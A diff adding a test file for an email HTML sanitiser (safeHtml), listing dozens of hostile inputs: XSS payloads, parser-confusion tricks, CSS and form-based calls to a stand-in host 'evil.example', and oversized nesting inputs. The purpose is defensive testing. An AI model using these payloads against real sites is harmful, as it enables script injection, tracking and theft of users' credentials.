@@ -1,0 +1,259 @@
+import { Parser } from 'htmlparser2'
+import { describe, expect, test } from 'vitest'
+import { safeHtml } from './safe-html.ts'
+
+// A picture of one transparent pixel.
+const pixel = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
+const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64')
+
+/** Each would run, fetch, submit, lead astray or cover the page in a browser that took it as it is. */
+const hostile: [name: string, html: string][] = [
+  ['a script', '<script>fetch("https://evil.example")</script>'],
+  ['a script in capitals', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
+  ['a script without an end', '<script src="https://evil.example/x.js">'],
+  ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+  ['an event handler', '<p onclick="alert(1)">x</p>'],
+  ['an event handler after a slash', '<img/src=x/onerror=alert(1)>'],
+  ['an event handler with a line break', '<p onmouse\nover=alert(1) on\tload=x>x</p>'],
+  ['a handler behind an unclosed quote', '<img src="x` `<p onerror=alert(1)>"` `>'],
+  ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
+  ['a javascript: link with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
+  ['a javascript: link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
+  ['a javascript: link with control characters', '<a href="\x01javascript:alert(1)">x</a>'],
+  ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
+  ['a data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
+  ['a blob: link', '<a href="blob:https://applybox.test/x">x</a>'],
+  ['a link to a path of ours', '<a href="/settings">x</a>'],
+  ['a javascript: picture', '<img src="javascript:alert(1)">'],
+  ['an SVG with a script', '<svg><script>alert(1)</script></svg>'],
+  ['an SVG with a handler', '<svg onload=alert(1)><g/></svg>'],
+  ['an SVG that animates a link', '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>'],
+  ['an SVG that fetches', '<svg><feImage href="https://evil.example/x"/><image xlink:href="https://evil.example/y"/></svg>'],
+  ['an SVG as data: picture', `<img src="data:image/svg+xml;base64,${svg}">`],
+  ['an SVG that claims to be a PNG', `<img src="data:image/png;base64,${svg}">`],
+  ['an HTML page that claims to be a picture', '<img src="data:text/html;base64,PHNjcmlwdD4=">'],
+  ['MathML with a link', '<math><maction xlink:href="javascript:alert(1)">x</maction></math>'],
+  [
+    'MathML that changes the parser',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  ],
+  ['a style expression', '<p style="width: expression(alert(1))">x</p>'],
+  ['a style with escapes', '<p style="background: \\75\\72\\6c(https://evil.example/x)">x</p>'],
+  ['a style with a comment inside a name', '<p style="background: u/**/rl(https://evil.example/x)">x</p>'],
+  ['a style binding', '<p style="-moz-binding: url(https://evil.example/x); behavior: url(x.htc)">x</p>'],
+  ['a style that fetches', '<p style="background-image: url(https://evil.example/x)">x</p>'],
+  ['a style that fetches with quotes', '<p style="background: #fff url(&quot;//evil.example/x&quot;)">x</p>'],
+  ['a style that fetches by another function', '<p style="background: image-set(\'https://evil.example/x\' 1x)">x</p>'],
+  ['a cursor that fetches', '<p style="cursor: url(https://evil.example/x), auto">x</p>'],
+  ['a list mark that fetches', '<ul style="list-style: url(https://evil.example/x)"><li>x</li></ul>'],
+  ['a style that covers the page', '<p style="position: fixed; top: 0; left: 0; z-index: 99; width: 100%; height: 100%">x</p>'],
+  ['a style that pulls itself over its neighbour', '<p style="margin-top: -500px; transform: scale(9)">x</p>'],
+  ['a style sheet', '<style>body { background: url(https://evil.example/x) }</style>'],
+  ['a style sheet that imports', '<style>@import "https://evil.example/x.css";</style>'],
+  ['a style sheet that ends in markup', '<style></style><img src=x onerror=alert(1)></style>'],
+  ['a style sheet inside a title', '<title><style></title><img src=x onerror=alert(1)>'],
+  ['a linked style sheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
+  ['a prefetch', '<link rel=dns-prefetch href="//evil.example">'],
+  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
+  ['a base', '<base href="https://evil.example/"><a href="x">x</a>'],
+  [
+    'a form',
+    '<form action="https://evil.example"><input name=password><button formaction="https://evil.example">x</button></form>',
+  ],
+  ['an input that fetches', '<input type=image src="https://evil.example/x">'],
+  ['a frame', '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
+  ['a frame set', '<frameset><frame src="https://evil.example"></frameset>'],
+  ['an object', '<object data="https://evil.example/x.swf"><param name=src value="https://evil.example"></object>'],
+  ['an embed', '<embed src="https://evil.example/x.swf">'],
+  ['an applet', '<applet code="X.class" codebase="https://evil.example"></applet>'],
+  ['a video', '<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video>'],
+  ['an audio', '<audio src="https://evil.example/x" onerror=alert(1)></audio>'],
+  ['a picture with sources', '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>'],
+  ['a picture in several sizes', '<img srcset="https://evil.example/x 1x, https://evil.example/y 2x" alt="x">'],
+  ['a picture without a scheme', '<img src="//evil.example/x">'],
+  ['a picture with a backslash', '<img src="\\\\evil.example/x"><img src="https:\\\\evil.example/x">'],
+  ['a picture with white space before it', '<img src=" \n https://evil.example/x">'],
+  ['an old background', '<table background="https://evil.example/x"><tr><td background="//evil.example/y">x</td></tr></table>'],
+  ['an id that hides one of the page', '<a id=location name=cookie>x</a><img name=getElementById src=x>'],
+  ['a custom element', '<x-y onclick=alert(1)>x</x-y>'],
+  ['a template', '<template><img src=x onerror=alert(1)></template>'],
+  ['a noscript that changes the parser', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
+  ['a text area that changes the parser', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'],
+  ['an xmp that changes the parser', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
+  ['a noembed that changes the parser', '<noembed><p title="</noembed><img src=x onerror=alert(1)>">'],
+  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
+  ['a comment for one browser', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
+  ['a CDATA section', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
+  ['a processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>'],
+  ['an attribute name with markup', '<p "><img src=x onerror=alert(1)>">x</p>'],
+  ['an attribute value with markup', '<p title="&quot;><img src=x onerror=alert(1)>">x</p>'],
+  ['markup as text', '&lt;script&gt;alert(1)&lt;/script&gt;'],
+  ['an XML namespace', '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></html>'],
+  ['a null character in a tag', '<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>'],
+  ['a ping', '<a href="https://jobs.example" ping="https://evil.example">x</a>'],
+  ['a map', '<map name=m><area href="javascript:alert(1)"></map><img usemap=#m src=x>'],
+  ['a dialog over the page', '<dialog open>x</dialog><details ontoggle=alert(1) open>x</details>'],
+  ['a marquee', '<marquee onstart=alert(1)>x</marquee>'],
+  ['a body with a handler', '<body onload=alert(1) background="https://evil.example/x">x</body>'],
+  ['an import', '<script type=importmap>{"imports":{}}</script><link rel=modulepreload href="https://evil.example">'],
+]
+
+const mayStay = new Set(
+  (
+    'a abbr b blockquote br center code div em font h1 h2 h3 h4 h5 h6 hr i img li ol p pre s small span strong sub sup table tbody td tfoot ' +
+    'th thead tr tt u ul'
+  ).split(' '),
+)
+const attributesMayBe = new Set(
+  'align alt bgcolor border cellpadding cellspacing colspan dir height href rel rowspan src style target title valign width'.split(
+    ' ',
+  ),
+)
+
+/** What a browser would find in the answer. */
+function inspect(html: string) {
+  const elements: { name: string; attributes: Record<string, string> }[] = []
+  let text = ''
+  const parser = new Parser({
+    onopentag: (name, attributes) => elements.push({ name, attributes }),
+    ontext: (part) => {
+      text += part
+    },
+    oncomment: () => elements.push({ name: '#comment', attributes: {} }),
+    onprocessinginstruction: (name) => elements.push({ name, attributes: {} }),
+  })
+  parser.end(html)
+  return { elements, text }
+}
+
+describe('hostile HTML of a mail is made harmless', () => {
+  test.each(hostile)('%s', (_, html) => {
+    const { html: safe } = safeHtml(`<p>before</p>${html}`, [], false)
+    const { elements, text } = inspect(safe)
+    expect(text).toContain('before')
+    for (const { name, attributes } of elements) {
+      expect(mayStay).toContain(name)
+      for (const [attribute, value] of Object.entries(attributes)) {
+        expect(attributesMayBe).toContain(attribute)
+        if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/)
+        if (attribute === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/)
+        if (attribute === 'style') expect(value).not.toMatch(/url|expression|position|transform|\\|-\d/i)
+        expect(value).not.toContain('evil.example')
+      }
+    }
+  })
+})
+
+test('what a mail is made of stays', () => {
+  const mail =
+    '<table width="600" style="background-color:#f4f4f4;border:1px solid rgb(1, 2, 3)"><tbody><tr><td align="center" style="padding:8px 4px;font:bold 14px \'Segoe UI\',sans-serif">' +
+    '<h1>Dear Ada</h1><p>Thank you &amp; welcome <b>Ada</b></p></td></tr></tbody></table>'
+  expect(safeHtml(mail, [], false)).toEqual({ html: mail, hasRemoteContent: false, isCut: false })
+})
+
+test('a link opens apart from the page and does not say where it was opened', () => {
+  expect(safeHtml('<a href="https://jobs.example/?a=1&amp;b=2">x</a>', [], false).html).toBe(
+    '<a href="https://jobs.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
+  )
+})
+
+describe('remote content', () => {
+  test.each([
+    ['a picture', '<img src="https://cdn.example/x.png">', '<img src="https://cdn.example/x.png" />'],
+    ['a picture without a scheme', '<img src="//cdn.example/x.png">', '<img src="https://cdn.example/x.png" />'],
+    ['a background', '<p background="https://cdn.example/x.png">x</p>', '<p background="https://cdn.example/x.png">x</p>'],
+    [
+      'a background by style',
+      '<p style="background:#eee url(https://cdn.example/x.png) no-repeat">x</p>',
+      '<p style="background:#eee url(&quot;https://cdn.example/x.png&quot;) no-repeat">x</p>',
+    ],
+  ])('%s is left out, said, and shown when asked for', (_, html, shown) => {
+    const without = safeHtml(html, [], false)
+    expect(without.hasRemoteContent).toBe(true)
+    expect(without.html).not.toContain('cdn.example')
+    expect(safeHtml(html, [], true)).toEqual({ html: shown, hasRemoteContent: false, isCut: false })
+  })
+
+  test.each([
+    ['a set of pictures', '<img srcset="https://cdn.example/x 2x" alt="x">'],
+    ['a style sheet', '<style>p { background: url(https://cdn.example/x) }</style>'],
+    ['an import', '<style>@import url("https://cdn.example/x.css")</style>'],
+    ['a linked style sheet', '<link rel="stylesheet" href="https://cdn.example/x.css">'],
+    ['a poster', '<video poster="https://cdn.example/x"></video>'],
+    ['an SVG picture', '<svg><image href="https://cdn.example/x"/></svg>'],
+  ])('%s is never fetched', (_, html) => {
+    expect(safeHtml(html, [], false).hasRemoteContent).toBe(true)
+    expect(safeHtml(html, [], true).html).not.toContain('cdn.example')
+  })
+
+  test('a mail without any says so', () => {
+    expect(safeHtml('<p style="color:red">x</p><img src="cid:logo" alt="">', [], false).hasRemoteContent).toBe(false)
+  })
+})
+
+describe('pictures inside the mail', () => {
+  const gif = Buffer.from(pixel, 'base64')
+
+  test('are shown in their place', () => {
+    const { html } = safeHtml(
+      '<img src="cid:logo@corp.example" alt="Logo">',
+      [{ contentId: '<Logo@corp.example>', bytes: gif }],
+      false,
+    )
+    expect(html).toBe(`<img alt="Logo" src="data:image/gif;base64,${pixel}" />`)
+  })
+
+  test('are not shown when their bytes are no picture', () => {
+    const page = Buffer.from('<html><script>alert(1)</script>')
+    expect(safeHtml('<img src="cid:a" alt="Logo">', [{ contentId: 'a', bytes: page }], false).html).toBe('<img alt="Logo" />')
+  })
+
+  test('are not shown when they are too large, one by one or together', () => {
+    const large = Buffer.concat([gif, Buffer.alloc(1_000_000)])
+    expect(safeHtml('<img src="cid:a" alt="Logo">', [{ contentId: 'a', bytes: large }], false).html).toBe('<img alt="Logo" />')
+    const many = Array.from({ length: 8 }, (_, n) => ({ contentId: `c${n}`, bytes: Buffer.concat([gif, Buffer.alloc(900_000)]) }))
+    const { html } = safeHtml(many.map(({ contentId }) => `<img src="cid:${contentId}" alt="x">`).join(''), many, false)
+    expect(html.split('data:image/gif').length - 1).toBe(5)
+  })
+
+  test('may be written into the mail itself', () => {
+    expect(safeHtml(`<img src="data:image/gif;base64,${pixel}">`, [], false).html).toBe(
+      `<img src="data:image/gif;base64,${pixel}" />`,
+    )
+  })
+})
+
+describe('a hostile shape is read in under a second', () => {
+  test.each([
+    ['100 000 nested boxes', '<div>'.repeat(100_000)],
+    ['100 000 nested boxes that end', `${'<div>'.repeat(100_000)}x${'</div>'.repeat(100_000)}`],
+    ['100 000 nested unknown elements', '<zz>'.repeat(100_000)],
+    ['nested tables', '<table><tr><td>'.repeat(60_000)],
+    ['crossed elements', '<a><b>'.repeat(60_000) + '</a></b>'.repeat(60_000)],
+    ['nested drawings', '<svg>'.repeat(100_000)],
+    ['opening brackets', '<'.repeat(1_000_000)],
+    ['attributes without end', `<p ${Array.from({ length: 100_000 }, (_, n) => `a${n}=b`).join(' ')}>`],
+    ['a style without end', `<p style="${'a:url('.repeat(200_000)}">`],
+    ['many styles', '<p style="background:url(https://a.example/x">'.repeat(20_000)],
+    ['many style sheets', '<style>@'.repeat(100_000)],
+    ['comments without end', '<!--'.repeat(300_000)],
+    ['a content id of percent signs', `<img src="cid:${'%'.repeat(1_000_000)}">`],
+  ])('%s', (_, shape) => {
+    const start = performance.now()
+    const { html } = safeHtml(`<p>before</p>${shape}`, [], false)
+    expect(performance.now() - start).toBeLessThan(1000)
+    expect(html).toContain('before')
+  })
+
+  test('text that lies too deep is kept', () => {
+    expect(safeHtml(`${'<div>'.repeat(5000)}Dear Ada${'</div>'.repeat(5000)}<p>after</p>`, [], false).html).toMatch(
+      /Dear Ada(<\/div>){200}<p>after<\/p>$/,
+    )
+  })
+
+  test('a mail longer than what is shown says so', () => {
+    const { html, isCut } = safeHtml('<p>word</p>'.repeat(200_000), [], false)
+    expect(isCut).toBe(true)
+    expect(html.length).toBeLessThan(1_600_000)
+  })
+})
